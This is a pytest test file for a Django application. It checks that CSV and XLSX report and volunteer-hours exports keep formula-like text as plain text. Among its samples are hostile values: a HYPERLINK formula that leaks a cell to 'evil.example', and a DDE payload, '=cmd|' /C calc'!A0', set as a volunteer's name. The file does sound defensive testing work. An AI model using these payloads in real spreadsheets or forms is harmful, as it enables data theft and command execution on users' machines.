"""Any text a person can type comes out of Kvarter's CSV and XLSX files as text, never as a formula.

Read back the way an outsider would: Python's own csv module and openpyxl
(an independent reader), judged by the rule spreadsheet programs apply (a
cell starting with =, +, -, @, |, % or a tab or line break may be a formula,
unless it is a plain number).
"""

import csv as std_csv
import io
import re

import pytest
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.spreadsheets import Sheet, csv_bytes, is_risky, xlsx_bytes

# Any Unicode, lone surrogates and control characters included.
ANY_TEXT = st.text(st.characters(codec=None, exclude_categories=()), max_size=40)
HOSTILE = st.sampled_from(["=", "+", "-", "@", "|", "%", "\t", "\r", "\n", "=HYPERLINK(", "-2+3", "@SUM("])
TYPED = st.one_of(ANY_TEXT, st.builds(lambda start, rest: start + rest, HOSTILE, ANY_TEXT))
PLAIN_NUMBER = re.compile(r"^-?[0-9,.]+$")


def _xml_safe(text: str) -> str:
    """What a file can carry at all: control characters and lone surrogates become U+FFFD."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", "\ufffd", text)


def a_spreadsheet_would_compute(cell: str) -> bool:
    return cell.startswith(("=", "+", "@", "|", "%", "\t", "\r", "\n")) or (
        cell.startswith("-") and not PLAIN_NUMBER.match(cell)
    )


def _read_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(std_csv.reader(io.StringIO(text[1:], newline="")))


@given(values=st.lists(TYPED, min_size=1, max_size=4))
@settings(max_examples=400, deadline=None)
def test_any_typed_text_is_text_in_csv(values):
    [row] = _read_csv(csv_bytes([values]))

    for typed, cell in zip(values, row, strict=True):
        expected = _xml_safe(typed)
        assert not a_spreadsheet_would_compute(cell), (typed, cell)
        # Nothing else changes: at most the apostrophe that keeps it text (and, in such a
        # cell, defusedcsv's backslash before "|", which some programs read as a DDE call).
        assert cell in (expected, "'" + expected, "'" + expected.replace("|", "\\|")), (typed, cell)


@given(values=st.lists(TYPED, min_size=1, max_size=4))
@settings(max_examples=400, deadline=None)
def test_any_typed_text_is_a_string_cell_in_xlsx(values):
    data = xlsx_bytes([Sheet(title="Figures", rows=[values])])

    cells = next(load_workbook(io.BytesIO(data)).active.iter_rows())
    for typed, cell in zip(values, cells, strict=True):
        expected = _xml_safe(typed)
        if expected == "":
            assert cell.value in ("", None)
            continue
        assert cell.data_type == "s", (typed, cell.value)
        # XML reads a carriage return back as a line feed; the text is otherwise exact.
        assert cell.value == expected.replace("\r\n", "\n").replace("\r", "\n") or cell.value == expected
        assert cell.quotePrefix is is_risky(expected)


def test_numbers_stay_numbers():
    [row] = _read_csv(csv_bytes([[3, -4, 2.5, "-1"]]))
    data = xlsx_bytes([Sheet(title="Figures", rows=[[3, -4, 2.5, "-1"]])])
    cells = next(load_workbook(io.BytesIO(data)).active.iter_rows())

    assert row == ["3", "-4", "2.5", "-1"]
    assert [(cell.value, cell.data_type) for cell in cells] == [(3, "n"), (-4, "n"), (2.5, "n"), ("-1", "s")]


@pytest.fixture
def cafe_2018(organisation, municipality, settings, tmp_path):
    import datetime as dt

    from activities.enums import Gender, SessionStatus
    from tests.factories import ActivityFactory, AgeBandFactory, ProgrammeFactory, SessionFactory, TallyFactory

    settings.MEDIA_ROOT = tmp_path
    programme = ProgrammeFactory(lead_organisation=organisation, starts_on=dt.date(2016, 9, 1))
    programme.partner_organisations.add(municipality)
    activity = ActivityFactory(programme=programme, name="Café")
    band = AgeBandFactory(organisation=organisation, min_age=13, max_age=17)
    session = SessionFactory(
        activity=activity, starts_at=dt.datetime(2018, 3, 6, 15, tzinfo=dt.UTC), status=SessionStatus.HELD
    )
    TallyFactory(session=session, age_band=band, gender=Gender.FEMALE, visits=60)
    return activity


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name", ['=HYPERLINK("https://evil.example/?"&A1,"Klicka")', "+46 70 123", "@SUM(A1:A9)", "\tFika", "-1+1"]
)
def test_a_report_export_keeps_a_hostile_activity_name_as_text(strategist, cafe_2018, name):
    """The strategist's download, end to end: the coordinator named an activity like a formula."""
    from reporting.services import report_produce
    from tests.factories import ReportRequestFactory

    cafe_2018.name = name
    cafe_2018.save()
    request = ReportRequestFactory(programme=cafe_2018.programme, year=2018, language="en", requested_by=None)
    report = report_produce(request_id=request.pk)
    client = Client()
    client.force_login(strategist)

    csv_rows = _read_csv(client.get(f"/reports/{report.pk}/figures.csv").content)
    workbook = load_workbook(io.BytesIO(client.get(f"/reports/{report.pk}/figures.xlsx").content))

    assert not any(a_spreadsheet_would_compute(cell) for row in csv_rows for cell in row)
    assert [row[1] for row in csv_rows if row[1] == "'" + name] != []
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.value == name] == ["s"]
    assert all(cell.data_type in ("s", "n") for cell in cells if cell.value is not None)


@pytest.mark.django_db
def test_the_volunteer_hours_download_keeps_a_hostile_name_as_text(client, coordinator, organisation):
    import datetime as dt

    from core.models import AuditLogEntry
    from tests.conftest import sign_in
    from tests.factories import HoursLogFactory, VolunteerFactory

    mallory = VolunteerFactory(organisation=organisation, first_name="=cmd|' /C calc'!A0", last_name="")
    log = HoursLogFactory(volunteer=mallory, date=dt.date(2026, 3, 1))
    sign_in(client, coordinator)

    csv_rows = _read_csv(
        client.post("/admin/volunteers/hourslog/", {"action": "download_csv", "_selected_action": [log.pk]}).content
    )
    xlsx = client.post("/admin/volunteers/hourslog/", {"action": "download_xlsx", "_selected_action": [log.pk]})
    cells = [cell for row in load_workbook(io.BytesIO(xlsx.content)).active.iter_rows() for cell in row]

    assert not any(a_spreadsheet_would_compute(cell) for row in csv_rows for cell in row)
    assert csv_rows[1][0].startswith("'=cmd")
    assert [cell.data_type for cell in cells if str(cell.value).startswith("=cmd")] == ["s"]
    assert AuditLogEntry.objects.filter(action="volunteer.exported", organisation_id=organisation.pk).count() == 2
